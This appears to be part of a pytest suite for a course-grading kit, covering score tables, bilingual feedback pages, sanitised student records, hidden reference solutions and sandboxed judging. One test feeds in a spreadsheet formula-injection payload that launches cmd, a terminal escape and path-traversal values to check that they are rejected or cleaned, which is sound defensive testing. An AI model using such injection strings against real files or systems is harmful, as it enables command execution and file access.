    assert (table["ada", "assistant_message"]["points"], table["ada", "assistant_message"]["max_points"]) == ("6.0", "6.0")
    assert (table["li", "assistant_message"]["points"], table["li", "assistant_message"]["max_points"]) == ("3.0", "6.0")
    assert (table["li", "resolve_in"]["points"], table["li", "resolve_in"]["max_points"]) == ("0.0", "20.0")
    assert (table["ada", "resolve_in"]["points"], table["ada", "resolve_in"]["max_points"]) == ("20.0", "20.0")
    assert (table["ada", "find_text"]["points"], table["ada", "find_text"]["max_points"]) == ("0.0", "20.0")  # every s02 exercise
    pages = tmp_path / "grades-feedback"
    assert sorted(p.name for p in pages.iterdir()) == ["ada.html", "li.html"]
    chinese, english = (pages / "li.html").read_text(encoding="utf-8"), (pages / "ada.html").read_text(encoding="utf-8")
    assert 'lang="zh"' in chinese and "反馈" in chinese and "尝试中" in chinese and "3 / 6" in chinese
    assert 'lang="en"' in english and "Feedback: ada" in english and "passed" in english
    weights.write_text('{"s01": "many"}', encoding="utf-8")
    assert main(["progress", str(ada), "--points", str(weights)]) == 2
    assert "--points" in capsys.readouterr().err


def test_the_room_service_keeps_each_students_records_as_its_own_and_shows_the_whole_roster(tmp_path):
    from lessonkit.workshop.roomservice import Store

    store = Store(tmp_path / "room")
    store.add("ada", {"lesson": "s01_loop", "exercise": "assistant_message", "passed": 2, "total": 6,
                      "first": "\x1b[2J=cmd|' /C calc'!A0", "time": "=1+1", "t": 0, "lang": "../zh", "extra": "x"})
    store.add("ada", {"lesson": "s01_loop", "exercise": "assistant_message", "passed": 6, "total": 6,
                      "reference": "yes"})
    for bad in ({"lesson": "s01_loop", "exercise": "nope"}, {"lesson": "../../etc", "exercise": "x"}, ["x"], "x"):
        with pytest.raises(ValueError):
            store.add("ada", bad)
    [line1, line2] = [json.loads(x) for x in (store.progress("ada") / "s01_loop.jsonl").read_text(
        encoding="utf-8").splitlines()]
    assert set(line1) == {"lesson", "exercise", "passed", "total", "first", "error", "attempt", "time", "t", "lang"}
    assert line1["lang"] == "en" and line1["t"] > 1e9 and "reference" not in line2
    users = [{"name": "ada", "admin": False, "last_activity": "2026-12-07T10:00:00Z"},
             {"name": "bo", "admin": False, "last_activity": "2026-12-07T10:00:00Z"},
             {"name": "cy", "admin": False, "last_activity": None}, {"name": "instructor", "admin": True},
             {"name": "bot", "kind": "service"}]
    table = {r.student: r for r in store.rows(users, only={"s01"})}
    assert {n: r.state for n, r in table.items()} == {"ada": "passed", "bo": "not started", "cy": "not logged in"}
    assert table["ada"].points == table["ada"].max_points == 10.0 and table["ada"].home == ""


def test_live_a_check_of_a_wrapper_around_the_reference_records_uses_the_reference(tmp_path, monkeypatch):
    from lessonkit.exercises.s01_loop import exercise

    work = tmp_path / "ada" / "work"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    import importlib

    module = importlib.import_module("s0" + "1_loop")
    exercise.check(lambda response: getattr(module, "assistant" + "_message")(response))
    [row] = progress.rows([tmp_path / "ada"], only={"s01"}, notebooks=False)
    assert row.state == "uses the reference"
    exec(compile(SOLVED["s01_loop"], "<cell>", "exec"), scope := {})
    exercise.check(scope["assistant_message"])
    [row] = progress.rows([tmp_path / "ada"], only={"s01"}, notebooks=False)
    assert row.state == "passed"


def test_the_copy_graded_is_the_one_the_student_worked_in_and_a_chinese_lesson_cell_is_not_an_edit(tmp_path):
    from lessonkit.workshop.gradeplan import answer_cells, answered, plan
    from lessonkit.workshop.student import write_courses
    from lessonkit.workshop.verify import copy_to_grade

    lesson = plan()["s01_loop"]
    home = tmp_path / "cy"
    write_courses(LESSONS, home / "work")    # both copies as `student` writes them, the Chinese one last
    chinese = home / "work" / "zh" / "s01_loop.ipynb"
    nb = json.loads(chinese.read_text(encoding="utf-8"))
    assert not answered(nb, lesson) and [fatal for _n, _s, fatal in answer_cells(nb, lesson)] == [True]
    assert copy_to_grade(home / "work", "s01_loop", home, lesson) == home / "work" / "s01_loop.ipynb"
    next(c for c in nb["cells"] if "exercise" in c["metadata"].get("tags", []))["source"] = SOLVED["s01_loop"]
    chinese.write_text(json.dumps(nb), encoding="utf-8")
    assert answered(nb, lesson) and copy_to_grade(home / "work", "s01_loop", home, lesson) == chinese


def test_every_lessons_copy_without_its_references_compiles_and_each_reference_tells_the_judge(tmp_path):
    """The child's kit copy of each lesson (kitcopy.hide_references over the lesson's references and
    solutions, as verify builds it): every file still compiles, every hidden function only reports."""
    import importlib
    import py_compile
    import shutil

    from lessonkit.workshop.gradeplan import plan, references
    from lessonkit.workshop.kitcopy import Hidden, hide_references

    for lesson, lesson_plan in plan().items():
        refs = references(lesson_plan)
        functions = [(f.__module__, f.__qualname__) for r in refs.values() for f in r["functions"]]
        strings = [s for r in refs.values() for s in r["strings"]]
        if not functions and not strings:
            continue
        copy = tmp_path / lesson
        modules = {m for m, _q in functions} | {m for m, _s in strings}
        for module in modules:
            source = Path(importlib.import_module(module).__file__)
            target = copy.joinpath(*module.split("."))
            target = target / "__init__.py" if source.name == "__init__.py" else target.with_suffix(".py")
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(source, target)
        hide_references(copy, Hidden(tuple(functions), tuple(strings)))   # duplicates too: a reference and its solution
        for path in copy.rglob("*.py"):
            py_compile.compile(str(path), doraise=True)
            text = path.read_text(encoding="utf-8")
            for module, qualname in functions:
                if path.with_suffix("").parts[-len(module.split(".")):] in (tuple(module.split(".")),
                                                                            (*module.split("."), "__init__")):
                    assert text.count(f"_lessons_hook({module + ':' + qualname!r})") == 1, (lesson, qualname)
            for module, solution in strings:
                assert solution not in text, (lesson, module)


def _mine(program: str) -> str:
    """A solution program made a student's own: a statement of theirs first in every function (so it is
    not the stage's code word for word), comments dropped. Example: "def f(x):\\n    return x" ->
    "def f(x):\\n    pass\\n    return x" """
    import ast

    tree = ast.parse(program)
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            at = 1 if node.body and isinstance(node.body[0], ast.Expr) and isinstance(
                getattr(node.body[0], "value", None), ast.Constant) else 0
            node.body.insert(at, ast.Pass())
    return ast.unparse(tree) + "\n"


@pytest.mark.slow
@pytest.mark.skipif(not ROOTED, reason="a grade is verify as root: the jails and namespaces need it")
def test_an_honest_answer_to_every_exercise_of_every_lesson_passes_verify(tmp_path):
    """Each exercise answered with its hints' last rung made the student's own (_mine): every check of every
    lesson runs in the judge's jail on the child's outputs, and passes."""
    import nbformat

    from lessonkit.workshop.gradeplan import defines, plan

    home = tmp_path / "ada"
    (home / "work").mkdir(parents=True)
    for lesson, lesson_plan in plan().items():
        programs = {}
        for check in lesson_plan["checks"]:
            scope: dict = {}
            exec(compile(check["imports"], "<check>", "exec"), scope)  # noqa: S102 - the kit's own cell
            exercise = scope[check["call"].split(".check(")[0].strip()]
            last = exercise.hint(len(getattr(exercise, "hints", ())) + 1) if hasattr(exercise, "hints") \
                else exercise.hint(4)
            program = str(getattr(last, "text", last))
            if check["name"] == "my_strategy":
                program += "\nmy_strategy = batched_clearing\n"
            programs[check["name"]] = _mine(program)
        nb = student_version(json.loads((LESSONS / f"{lesson}.ipynb").read_text(encoding="utf-8")), lesson)
        for cell in nb["cells"]:
            if "exercise" in cell.get("metadata", {}).get("tags", []):
                name = next(n for n in programs if defines("".join(cell["source"]), n))
                cell["source"] = programs[name]
        nbformat.write(nbformat.from_dict(nb), home / "work" / f"{lesson}.ipynb")
    out = tmp_path / "grades.csv"
    grade([home], "--csv", str(out), "--timeout", "300")
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {(r["lesson"], r["exercise"]): (r["state"], r["detail"][:200]) for r in rows if r["state"] != "passed"} \
        == {} and len(rows) == sum(len(p["checks"]) for p in plan().values())


def test_an_instrumented_history_crosses_the_wire_counting_the_answers_walks_only():
    """s06's walk counter: sending a history down read every message (dict.copy calls a subclass's keys()
    and __getitem__), so an honest one-pass answer was graded 'walked the history 2 times' by verify."""
    from lessonkit.exercises.s06_compact.micro_histories import reads
    from lessonkit.exercises.s06_compact.micro_verdicts import Walked
    from lessonkit.workshop import wire
    from s06_compact import micro_compact

    history = Walked(reads(*(letter * 300 for letter in "xyzabc")))
    args, kwargs = wire.up_loads(wire.down(((history,), {}), []), lambda *a: None)
    assert history.log == [] and history.iterations == 0            # sending it read nothing
    micro_compact(args[0], keep_recent=3)                             # the answer, in the child
    after = wire.decode(json.loads(json.dumps(wire.encode((args, kwargs), {}))),
                        lambda path: wire.path_get(((history,), {}), path))
    wire.sync(history, after[0][0])
    assert history.walks == 1 and history[0] is not None


def test_a_function_that_comes_back_as_its_name_keeps_its_place_in_the_judges_object():
    """s09's read_only: the parent's Tools came back up holding their handlers as names only (Foreign),
    and sync put those names where the functions were, so an honest answer was told bash was not the
    parent's tool."""
    from dataclasses import dataclass

    from lessonkit.workshop import wire

    @dataclass
    class Tool:
        name: str
        handler: object

    def run_bash(command):
        return command

    registry = {"bash": Tool("bash", run_bash)}
    came_back = {"bash": Tool("bash", wire.Foreign("run_bash", "<run_bash>"))}
    wire.sync(registry, came_back)
    assert registry["bash"].handler is run_bash
    assert wire.sync(run_bash, wire.Foreign("run_bash", "<run_bash>")) is run_bash


def test_a_built_in_method_of_the_judges_object_is_called_back_not_sent():
    """s04's `[Tripwire()].index` as a hook: pickled, its list went down holding a remote object, and the
    hook's call failed in the child ('Remote' object is not subscriptable) instead of raising its error."""
    from lessonkit.workshop import wire

    class Tripwire:
        def __eq__(self, other):
            raise ZeroDivisionError

        __hash__ = None

    hook, callbacks = [Tripwire()].index, []
    wire.down(((hook,), {}), callbacks)
    assert callbacks == [hook] and wire._kept(hook) and not wire._kept(len)


def test_a_class_of_the_cases_own_is_called_back_not_sent():
    """s04's `Refuse` as a hook: a class defined inside a case cannot be pickled by name, so the call in
    the child raised '(an error the judge cannot find)' instead of the hook's own error."""
    from lessonkit.workshop import wire

    class Refuse:
        def __init__(self, *args):
            raise ZeroDivisionError

    callbacks = []
    wire.down(((Refuse,), {}), callbacks)
    assert callbacks == [Refuse] and wire._kept(Refuse) and not wire._kept(dict)


def test_an_object_shared_by_many_parts_of_a_value_crosses_the_wire_once():
    """s06's 200 reads: each of 401 messages holds the one shared read log; sent as 401 copies it passed
    the wire's item cap, the answer's changes were dropped, and an honest answer was graded 'kept'."""
    from lessonkit.workshop import wire

    log = list(range(2_000))
    history = [{"role": "user", "content": f"m{i}", "log": log} for i in range(401)]
    data = json.loads(json.dumps(wire.encode((history,), {})))
    back = wire.decode(data)[0]
    assert [m["content"] for m in back] == [m["content"] for m in history]
    assert back[0]["log"] == log and all(m["log"] is back[0]["log"] for m in back)
    assert isinstance(wire.decode({"L": [{"A": 7}]})[0], wire.Foreign)   # a name it never sent: no value


def test_the_students_time_is_only_the_time_the_judge_waits_for_their_code(monkeypatch):
    """s06's pick_threshold: the judge runs the agent four times between calls; counted against the
    student's --timeout, an untouched notebook 'timed out after 60 s in a call of pick_threshold()'."""
    from lessonkit.workshop import judge

    now = [1000.0]
    monkeypatch.setattr(judge.time, "monotonic", lambda: now[0])

    class Child:   # answers after 10 s of the child's own time, and says what deadline it was given
        def receive(self, deadline, what=""):
            left = deadline - now[0]
            now[0] += min(10.0, left)
            if left <= 10.0:
                raise TimeoutError(f"timed out {what}")
            return {"left": left}

    clock = judge.ChildTime(35.0)
    assert clock.receive(Child(), "in a call of f()") == {"left": 35.0}
    now[0] += 100.0                          # the judge's own work: not the student's
    assert clock.receive(Child(), "in a call of f()") == {"left": 25.0}
    assert clock.receive(Child(), "in a call of f()") == {"left": 15.0}
    with pytest.raises(TimeoutError):
        clock.receive(Child(), "in a call of f()")
    assert clock.left == 0.0
